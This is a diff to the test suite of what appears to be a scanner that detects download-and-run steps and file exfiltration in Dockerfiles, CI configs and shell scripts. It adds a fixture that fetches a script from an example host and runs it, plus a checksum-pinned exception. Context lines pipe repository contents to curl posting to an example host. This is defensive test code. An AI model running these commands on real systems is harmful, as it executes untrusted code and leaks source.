@@ -28,6 +28,7 @@ def lines_of(text: str, *, path: str) -> list[int]:
         ("Dockerfile", f"FROM alpine\nRUN apk add curl && \\\n  {FETCH}\n", 3),
         ("Dockerfile.dev", f'FROM alpine\nCMD ["sh", "-c", "{FETCH}"]\n', 2),
         ("Dockerfile", f"FROM alpine\nRUN --mount=type=cache,target=/x {FETCH}\n", 2),
+        ("Dockerfile", "FROM alpine\nADD https://files.example/a.sh /a.sh\nRUN sh /a.sh\n", 3),
         ("Dockerfile", f"FROM alpine\nRUN <<EOF\necho\n{FETCH}\nEOF\n", 4),
         (
             ".github/workflows/ci.yml",
@@ -123,3 +124,8 @@ def test_code_that_a_script_sources_is_run__with_the_settings_that_it_brings() -
 def test_code_of_a_repository_that_is_sent_is_a_file(show: str, *, is_code: bool) -> None:
     seen = in_shell(f"git {show} | gzip | curl -s --data-binary @- https://in.files.example/c\n", path="run.sh")
     assert any(isinstance(one, Fact) and one.kind is FactKind.SENDS_FILE for one in seen) is is_code
+
+
+def test_file_of_an_image_whose_checksum_is_known_is_no_download() -> None:
+    add = "ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://files.example/a.sh /a.sh"
+    assert lines_of(f"FROM alpine\n{add}\nRUN sh /a.sh\n", path="Dockerfile") == []
